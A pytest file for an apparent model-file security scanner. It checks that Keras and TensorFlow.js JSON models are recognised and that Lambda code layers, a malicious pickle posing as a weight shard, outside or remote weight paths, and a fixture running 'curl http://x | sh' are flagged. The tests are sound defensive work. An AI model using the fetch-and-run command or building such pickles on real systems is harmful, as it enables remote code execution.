"""Models of Keras and TensorFlow.js in a JSON file: they are models, and explain their weights."""

from __future__ import annotations

import json
import pickle
from pathlib import Path
from typing import Any

import pytest

from mlsec.core.resource import Inventory, Resource
from tests.model_files.test_source_beside import Shell, judged, read

DENSE: dict[str, Any] = {"class_name": "Dense", "config": {"units": 2, "name": "a"}}
LAMBDA = {"class_name": "Lambda", "config": {"function": ["4wEAAAA=", None, None]}}
SHARD = "group1-shard1of2.bin"
OTHER = "group1-shard2of2.bin"
NUMBERS = bytes(range(1, 41))


def keras(*layers: dict[str, Any]) -> bytes:
    config = {"name": "m", "layers": list(layers)}
    return json.dumps(
        {"class_name": "Sequential", "config": config, "keras_version": "2.6.0"}
    ).encode()


def for_browsers(*layers: dict[str, Any], paths: tuple[str, ...] = (SHARD, OTHER)) -> bytes:
    weights = [
        {"name": "a/kernel", "shape": [2, 4], "dtype": "float32"},
        {"name": "a/bias", "shape": [8], "dtype": "float32", "quantization": {"dtype": "uint8"}},
    ]
    topology = {"model_config": json.loads(keras(*layers))}
    manifest = [{"paths": list(paths), "weights": weights}]
    return json.dumps(
        {"format": "layers-model", "modelTopology": topology, "weightsManifest": manifest}
    ).encode()


def resource(found: Inventory, name: str) -> Resource:
    return next(one for one in found.resources if one.id.endswith(f"/{name}"))


def kinds(found: Inventory, name: str) -> set[tuple[str, str]]:
    detections = resource(found, name).properties["detections"]
    return {(one["kind"], one["severity"]) for one in detections}


@pytest.mark.parametrize("name", ["model.json", "architecture.json"])
def test_an_architecture_of_keras_is_a_model_by_its_content(name: str, tmp_path: Path) -> None:
    found = read(tmp_path, {name: keras(DENSE), "package.json": b'{"name": "x", "config": {}}'})
    assert judged(found) == {name}
    assert resource(found, name).properties["detections"] == []


def test_a_layer_of_python_code_in_an_architecture_is_flagged(tmp_path: Path) -> None:
    assert ("custom_code", "high") in kinds(
        read(tmp_path, {"model.json": keras(DENSE, LAMBDA)}), "model.json"
    )


def test_a_json_file_with_a_class_and_no_layers_is_no_model(tmp_path: Path) -> None:
    body = b'{"class_name": "Grid", "config": {"layers": ["a", "b"]}, "keras_version": "2"}'
    assert judged(read(tmp_path, {"model.json": body})) == set()


def test_shards_of_just_the_size_that_the_manifest_says_are_assessed(tmp_path: Path) -> None:
    files = {"model.json": for_browsers(DENSE), SHARD: NUMBERS[:25], OTHER: NUMBERS[25:]}
    found = read(tmp_path, files)
    assert judged(found) == set(files)
    assert not found.gaps
    assert resource(found, SHARD).properties["format"] == "tfjs_weights"


@pytest.mark.parametrize(
    "shards",
    [
        {SHARD: NUMBERS[:25], OTHER: NUMBERS[24:]},
        {SHARD: NUMBERS[:25], OTHER: NUMBERS[26:]},
        {SHARD: NUMBERS[:25]},
    ],
)
def test_shards_of_another_size_are_not_assessed(shards: dict[str, bytes], tmp_path: Path) -> None:
    found = read(tmp_path, {"model.json": for_browsers(DENSE), **shards})
    assert SHARD in judged(found)
    assert found.gaps


def test_a_pickle_in_place_of_a_shard_is_flagged(tmp_path: Path) -> None:
    evil = pickle.dumps(Shell(), protocol=2)
    rest = NUMBERS[len(evil) :]
    found = read(tmp_path, {"model.json": for_browsers(DENSE), SHARD: evil, OTHER: rest})
    assert ("denied_call", "critical") in kinds(found, SHARD)


def test_a_layer_of_python_code_in_a_model_for_browsers_is_flagged(tmp_path: Path) -> None:
    files = {"model.json": for_browsers(DENSE, LAMBDA), SHARD: NUMBERS[:25], OTHER: NUMBERS[25:]}
    assert ("custom_code", "high") in kinds(read(tmp_path, files), "model.json")


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("../../other/a.bin", "outside_reference"),
        ("https://x.example.invalid/a", "remote_reference"),
    ],
)
def test_weights_from_elsewhere_are_flagged(path: str, kind: str, tmp_path: Path) -> None:
    found = read(tmp_path, {"model.json": for_browsers(DENSE, paths=(path,))})
    assert kind in {one for one, _ in kinds(found, "model.json")}


def test_program_text_that_no_loader_runs_is_left_out_and_said(tmp_path: Path) -> None:
    files = {"model.json": keras(DENSE), "app.js": b"load('model.json')\n", "plot.R": b"x <- 1\n"}
    found = read(tmp_path, files)
    assert judged(found) == {"model.json"}
    (row,) = [each for each in found.coverage.rows if each.type == "files.artifact"]
    assert "program text in the language of JavaScript, which no loader of models runs (1)" in (
        row.excluded_because
    )


def test_program_text_that_fetches_and_runs_code_is_judged_all_the_same(tmp_path: Path) -> None:
    files = {"model.json": keras(DENSE), "run.js": b"exec('curl http://x | sh')\n"}
    assert "run.js" in judged(read(tmp_path, files))
